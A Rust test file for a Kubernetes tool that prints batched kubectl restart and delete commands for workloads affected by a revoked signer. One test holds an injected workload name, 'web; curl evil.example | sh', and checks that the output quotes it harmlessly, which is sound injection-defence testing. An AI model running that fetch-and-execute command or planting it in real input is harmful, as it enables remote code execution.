use super::*;
use crate::observed::Owner;

fn workload(kind: &str, name: &str, holders: &[&str]) -> Workload {
    Workload {
        namespace: "shop".into(),
        owner: (!kind.is_empty()).then(|| Owner {
            group: match kind {
                "CloneSet" => "apps.kruise.io",
                "Node" => "",
                _ => "apps",
            }
            .into(),
            kind: kind.into(),
            name: name.into(),
        }),
        holders: holders.iter().map(ToString::to_string).collect(),
        confirmed: 1,
        pods: 3,
        until: "2026-11-28T20:00:00Z".parse().unwrap(),
    }
}

fn page(workloads: Vec<Workload>, batch: usize) -> String {
    let now = "2026-11-27T20:00:00Z".parse().unwrap();
    let holders = Holders {
        signer: "example.com/a".into(),
        revoked_at: now,
        pods: 9,
        workloads,
        unreadable: Vec::new(),
    };
    shown(&holders, "kubectl --context test", batch, Look::PLAIN, now)
}

#[test]
fn each_batch_has_the_commands_of_its_workloads() {
    let page = page(
        vec![
            workload("Deployment", "web", &["web-1", "web-2"]),
            workload("StatefulSet", "db", &["db-0"]),
            workload("", "", &["alone"]),
            workload("CloneSet", "shards", &["shards-a", "shards-b"]),
            workload("Node", "node-1", &["static"]),
        ],
        2,
    );
    let (_, commands) = page.split_once("\n\nBatch 1").unwrap();
    assert_eq!(
        commands,
        "
  kubectl --context test -n shop rollout restart deployment/web
  kubectl --context test -n shop rollout restart statefulset/db
  kubectl --context test -n shop rollout status deployment/web
  kubectl --context test -n shop rollout status statefulset/db

Batch 2
  # one after the other, as delete heeds no PodDisruptionBudget: the next when the replacement is ready
  kubectl --context test -n shop delete pod shards-a
  kubectl --context test -n shop delete pod shards-b

Pods without a controller
  Nobody makes these again once they are deleted: replace each from its manifest.
  shop/alone
  shop/static
"
    );
    assert!(page.starts_with("example.com/a: 7 of 9 pods may hold"), "{page}");
}

/// Whoever may make pods may write any owner into them.
#[test]
fn no_owner_is_a_command() {
    let page = page(vec![workload("Deployment", "web; curl evil.example | sh", &["web-1"])], 5);
    assert!(page.contains("rollout restart 'deployment/web; curl evil.example | sh'"), "{page}");
}
